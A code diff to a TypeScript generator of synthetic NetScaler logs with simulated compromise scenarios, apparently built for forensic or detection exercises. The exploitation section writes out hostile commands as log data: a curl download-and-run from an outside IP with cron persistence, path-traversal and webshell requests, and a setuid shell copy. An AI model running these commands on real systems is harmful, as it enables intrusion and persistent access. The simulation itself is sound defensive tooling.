@@ -23,7 +23,24 @@ interface Line {
 }
 
 const ROTATE_BYTES = 100 * 1024;
-const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter'];
+const USERS = [
+  'alice',
+  'bob',
+  'carol',
+  'dave',
+  'erin',
+  'frank',
+  'grace',
+  'heidi',
+  'ivan',
+  'judy',
+  'mallory',
+  'oscar',
+  'peggy',
+  'trent',
+  'victor',
+  'walter',
+];
 const BROWSERS = [
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.117 Safari/537.36',
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:72.0) Gecko/20100101 Firefox/72.0',
@@ -75,7 +92,10 @@ function rotate(base: string, lines: Line[], maxRotations: number, protect: Read
 
 function sortLines(lines: Line[]): Line[] {
   // Stable: equal times keep insertion order.
-  return lines.map((l, i) => [l, i] as const).sort((a, b) => a[0].t - b[0].t || a[1] - b[1]).map(([l]) => l);
+  return lines
+    .map((l, i) => [l, i] as const)
+    .sort((a, b) => a[0].t - b[0].t || a[1] - b[1])
+    .map(([l]) => l);
 }
 
 /** All generated logs of a scenario, plus the event lines' times (for tests). */
@@ -118,7 +138,8 @@ function session(c: Ctx, t: number, sid: number): void {
   const user = USERS[Math.floor(r() * USERS.length)] as string;
   const v = vhashOf(c, t);
   const host = `https://${c.s.hostname}.example.org`;
-  const a = (dt: number, m: string, p: string, st: number, size: number | null, ref = '-') => c.access.push({ t: t + dt, text: accessLine(ip, t + dt, m, p, st, size, ref, ua) });
+  const a = (dt: number, m: string, p: string, st: number, size: number | null, ref = '-') =>
+    c.access.push({ t: t + dt, text: accessLine(ip, t + dt, m, p, st, size, ref, ua) });
   const receiver = ua.startsWith('CitrixReceiver');
   if (receiver) {
     a(0, 'GET', '/vpns/services.html', 200, 1405);
@@ -127,7 +148,13 @@ function session(c: Ctx, t: number, sid: number): void {
   } else {
     if (r() < 0.4) a(0, 'GET', '/', 302, 207);
     a(1, 'GET', '/vpn/index.html', 200, 3612);
-    for (const f of ['/vpn/js/rdx/core/css/rdx.css', '/vpn/themes/default/css/base.css', '/vpn/resources.js', '/vpn/login.js', '/vpn/js/rdx.js']) {
+    for (const f of [
+      '/vpn/js/rdx/core/css/rdx.css',
+      '/vpn/themes/default/css/base.css',
+      '/vpn/resources.js',
+      '/vpn/login.js',
+      '/vpn/js/rdx.js',
+    ]) {
       const cached = r() < 0.5;
       a(2, 'GET', `${f}${v}`, cached ? 304 : 200, cached ? null : 2000 + Math.floor(r() * 30000), `${host}/vpn/index.html`);
     }
@@ -142,12 +169,24 @@ function session(c: Ctx, t: number, sid: number): void {
   const login = t + 20;
   const ctx = `Context ${user}@${ip} - SessionId: ${sid} - User ${user} - Client_ip ${ip} - Nat_ip "Mapped Ip" - Vserver ${c.s.ip}:443`;
   const ns = (dt: number, ev: string, rest: string) =>
-    c.ns.push({ t: login + dt, text: `${syslogTime(login + dt)} <local0.info> 10.0.0.10 ${nsTime(login + dt)} ${c.s.hostname} 0-PPE-0 : default SSLVPN ${ev} ${1000 + sid} 0 : ${ctx}${rest}` });
+    c.ns.push({
+      t: login + dt,
+      text: `${syslogTime(login + dt)} <local0.info> 10.0.0.10 ${nsTime(login + dt)} ${c.s.hostname} 0-PPE-0 : default SSLVPN ${ev} ${1000 + sid} 0 : ${ctx}${rest}`,
+    });
   ns(0, 'LOGIN', ` - Browser_type "${ua.slice(0, 40)}" - SSLVPN_client_type ICA - Group(s) "Staff"`);
-  ns(25, 'ICASTART', ` - Destination 10.0.1.${20 + (sid % 30)}:2598 - customername  - username:domainname ${user}:EXAMPLE - applicationName Desktop`);
+  ns(
+    25,
+    'ICASTART',
+    ` - Destination 10.0.1.${20 + (sid % 30)}:2598 - customername  - username:domainname ${user}:EXAMPLE - applicationName Desktop`,
+  );
   const dur = 600 + Math.floor(r() * 3 * HOUR_S);
-  ns(dur, 'LOGOUT', ` - Start_time "${nsTime(login)}" - End_time "${nsTime(login + dur)}" - Duration 00:${String(Math.floor(dur / 60) % 60).padStart(2, '0')}:00 - Http_resources_accessed 12 - Total_TCP_connections 4 - Total_policies_allowed 4 - LogoutMethod "Explicit"`);
-  if (!receiver && r() < 0.3) c.access.push({ t: t + dur, text: accessLine(ip, t + dur, 'GET', '/cgi/logout', 302, 0, `${host}/vpn/index.html`, ua) });
+  ns(
+    dur,
+    'LOGOUT',
+    ` - Start_time "${nsTime(login)}" - End_time "${nsTime(login + dur)}" - Duration 00:${String(Math.floor(dur / 60) % 60).padStart(2, '0')}:00 - Http_resources_accessed 12 - Total_TCP_connections 4 - Total_policies_allowed 4 - LogoutMethod "Explicit"`,
+  );
+  if (!receiver && r() < 0.3)
+    c.access.push({ t: t + dur, text: accessLine(ip, t + dur, 'GET', '/cgi/logout', 302, 0, `${host}/vpn/index.html`, ua) });
 }
 
 /** Background noise: robots, favicons, TLS scanners asking for `/`. */
@@ -175,13 +214,16 @@ function fillTraffic(c: Ctx): void {
     for (let k = 0; k < 12; k++) {
       const t = c.start + Math.floor(((k + 1) * span) / 14);
       c.access.push({ t, text: accessLine(admin, t, 'GET', '/vpn/index.html', 200, 3612, '-', BROWSERS[0] as string) });
-      c.access.push({ t: t + 1, text: accessLine(admin, t + 1, 'GET', `/vpn/js/rdx.js${vhashOf(c, t)}`, 200, 24181, '-', BROWSERS[0] as string) });
+      c.access.push({
+        t: t + 1,
+        text: accessLine(admin, t + 1, 'GET', `/vpn/js/rdx.js${vhashOf(c, t)}`, 200, 24181, '-', BROWSERS[0] as string),
+      });
     }
     return;
   }
-  // Enough sessions to fill the current file and the kept rotations (~1.1 KB per session).
+  // Enough sessions to fill the current file and the kept rotations (~2.2 KB of access log per session).
   const target = (s.rotations + 0.7) * ROTATE_BYTES;
-  const sessions = Math.max(20, Math.round(target / 1350));
+  const sessions = Math.max(20, Math.round(target / 2250));
   for (let k = 0; k < sessions; k++) session(c, c.start + Math.floor(r() * span), 100 + k);
   const n = Math.round(sessions / 4);
   for (let k = 0; k < n; k++) noise(c, c.start + Math.floor(r() * span));
@@ -252,7 +294,13 @@ function exploitation(c: Ctx): void {
   } else if (p.kind === 'notrobin') {
     acc(at, 'POST', '/vpn/../vpns/portal/scripts/newbm.pl', 304, null, '-');
     const url = `${'hxxps://95.179.163.186/wp-content/uploads/2018/09/'}${p.key}`;
-    shellCmd(c, c.notice, at + 1, '(null) on (null)', `pkill -9 netscalerd; rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k ${url} -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo '* * * * * /var/nstmp/.nscache/httpd' | crontab -u nobody -; /tmp/.init/httpd &`);
+    shellCmd(
+      c,
+      c.notice,
+      at + 1,
+      '(null) on (null)',
+      `pkill -9 netscalerd; rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k ${url} -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo '* * * * * /var/nstmp/.nscache/httpd' | crontab -u nobody -; /tmp/.init/httpd &`,
+    );
     errRaw(c, at + 1, 'rm: /var/tmp/netscalerd: No such file or directory');
     errRaw(c, at + 2, CURL_PROGRESS[0] as string);
     errRaw(c, at + 2, CURL_PROGRESS[1] as string);
@@ -276,23 +324,43 @@ function exploitation(c: Ctx): void {
     errRaw(c, at + 4, '100   612  100   612    0     0   2049      0 --:--:-- --:--:-- --:--:--  2053');
     errRaw(c, at + 9, 'sh: netscalerd: not found');
   }
+  c.bursts.push([at - 30, last]);
   for (const u of comp.shellUsesAt) {
+    c.bursts.push([u, u + 20]);
     for (const name of p.shells) {
       if (p.kind === 'webshell-2020') {
         acc(u, 'GET', `/vpn/themes/imgs/${name}`, 200, 312);
         acc(u + 20, 'POST', `/vpn/themes/imgs/${name}`, 200, 57);
       } else if (p.kind === 'webshell-2023-v1') acc(u, 'POST', `/logon/LogonPoint/uiareas/${name}`, 201, null);
       else if (p.kind === 'webshell-2023-v2') acc(u, 'POST', `/epa/scripts/win/${name}`, 404, null);
-      last = Math.max(last, u + 20);
     }
   }
   if (p.kind === 'webshell-2023-v2') shellCmd(c, c.notice, at + 30, '(null) on (null)', 'cp /bin/sh /var/nss; chmod u+s /var/nss');
-  c.bursts.push([Math.min(at - 30, ...comp.shellUsesAt), last]);
+}
+
+/** Attack bursts closer than 6 h are kept in one access-log file (merged protected intervals). */
+function mergeBursts(bursts: ReadonlyArray<readonly [number, number]>): Array<[number, number]> {
+  const sorted = [...bursts].sort((a, b) => a[0] - b[0]);
+  const out: Array<[number, number]> = [];
+  for (const [a, b] of sorted) {
+    const last = out[out.length - 1];
+    if (last && a - last[1] < 6 * HOUR_S) last[1] = Math.max(last[1], b);
+    else out.push([a, b]);
+  }
+  return out;
 }
 
 function adminShell(c: Ctx): void {
   const { s, r } = c;
-  const cmds = ['ls -la /var/log', 'tail -n 50 /var/log/ns.log', 'df -h', 'uptime', 'top -b -d 1', 'ls -la /var/nsinstall', 'cat /flash/boot/loader.conf'];
+  const cmds = [
+    'ls -la /var/log',
+    'tail -n 50 /var/log/ns.log',
+    'df -h',
+    'uptime',
+    'top -b -d 1',
+    'ls -la /var/nsinstall',
+    'cat /flash/boot/loader.conf',
+  ];
   const pid = () => 2000 + Math.floor(r() * 30000);
   const who = 'nsroot on /dev/pts/0';
   for (const i of s.installs) {
@@ -300,25 +368,32 @@ function adminShell(c: Ctx): void {
     if (!inWin(c, t)) continue;
     const v = i.build.version;
     for (const [k, cmd] of [`cd /var/nsinstall/${v}_nc`, `tar -xzvf build-${v}_nc_64.tgz`, './installns'].entries()) {
-      c.bash.push({ t: t + k * 40, text: `${syslogTime(t + k * 40)} <local7.notice> ${s.hostname} bash[${pid()}]: ${who} shell_command="${cmd}"` });
+      c.bash.push({
+        t: t + k * 40,
+        text: `${syslogTime(t + k * 40)} <local7.notice> ${s.hostname} bash[${pid()}]: ${who} shell_command="${cmd}"`,
+      });
     }
   }
   if (!s.admin) return;
   const n = 6 + Math.floor(r() * 10);
   for (let k = 0; k < n; k++) {
     const t = c.start + Math.floor(r() * (c.end - c.start));
-    c.bash.push({ t, text: `${syslogTime(t)} <local7.notice> ${s.hostname} bash[${pid()}]: ${who} shell_command="${cmds[Math.floor(r() * cmds.length)]}"` });
+    c.bash.push({
+      t,
+      text: `${syslogTime(t)} <local7.notice> ${s.hostname} bash[${pid()}]: ${who} shell_command="${cmds[Math.floor(r() * cmds.length)]}"`,
+    });
   }
 }
 
 function cronLog(c: Ctx, nobodyCmd: string | null, nobodyEvery: number, nobodySince: number): void {
   const { s, r } = c;
-  const start = Math.max(c.start, c.end - DAY_S);
+  const start = Math.max(c.start, c.end - DAY_S / 2);
   const first = Math.ceil(start / 300) * 300;
   const pid = () => 3000 + Math.floor(r() * 60000);
   for (let t = first; t <= c.end; t += 60) {
     const min = Math.floor(t / 60) % 60;
-    const ln = (who: string, cmd: string) => c.cron.push({ t, text: `${syslogTime(t)} ${s.hostname} /usr/sbin/cron[${pid()}]: (${who}) CMD (${cmd})` });
+    const ln = (who: string, cmd: string) =>
+      c.cron.push({ t, text: `${syslogTime(t)} ${s.hostname} /usr/sbin/cron[${pid()}]: (${who}) CMD (${cmd})` });
     if (min % 5 === 0) ln('root', '/usr/libexec/atrun');
     if (min === 0) ln('root', '/usr/sbin/newsyslog');
     if (min % 10 === 0) ln('root', '/netscaler/nsfsyncd -p');
@@ -341,7 +416,8 @@ function bootNotices(c: Ctx): void {
   for (const i of c.s.installs) {
     const t = i.at + 120;
     errRaw(c, t, `[${errorTime(t)}] [notice] Apache/2.2.34 (Unix) mod_ssl/2.2.34 OpenSSL/1.0.2r configured -- resuming normal operations`);
-    if (inWin(c, t)) c.notice.push({ t, text: `${syslogTime(t)} <local7.notice> ${c.s.hostname} kernel: NetScaler ${i.build.version} booted` });
+    if (inWin(c, t))
+      c.notice.push({ t, text: `${syslogTime(t)} <local7.notice> ${c.s.hostname} kernel: NetScaler ${i.build.version} booted` });
   }
 }
 
@@ -358,16 +434,17 @@ export function buildLogs(s: Scenario): Logs {
   cronLog(c, nc && s.compromise ? nc.cmd : null, nc?.every ?? 1, (s.compromise?.at ?? 0) + 60);
   const within = (ls: Line[]) => sortLines(ls.filter((l) => l.t >= start && l.t <= end));
   const files: LogFile[] = [];
-  files.push(...rotate('/var/log/httpaccess.log', within(c.access), s.rotations, c.bursts));
-  files.push(...rotate('/var/log/httperror.log', within(c.error), 1, c.bursts));
+  const bursts = mergeBursts(c.bursts);
+  files.push(...rotate('/var/log/httpaccess.log', within(c.access), s.rotations, bursts));
+  files.push(...rotate('/var/log/httperror.log', within(c.error), 1, bursts));
   const single = (path: string, ls: Line[]) => {
     const asc = within(ls);
     const text = asc.length ? `${asc.map((l) => l.text).join('\n')}\n` : '';
     files.push({ path, text, data: Buffer.from(text), mtime: asc.length ? (asc[asc.length - 1] as Line).t : start });
   };
-  single('/var/log/ns.log', c.ns);
+  files.push(...rotate('/var/log/ns.log', within(c.ns), s.rotations, []));
   single('/var/log/bash.log', c.bash);
   single('/var/log/notice.log', c.notice);
   single('/var/log/cron', c.cron);
-  return { files, bursts: c.bursts };
+  return { files, bursts };
 }
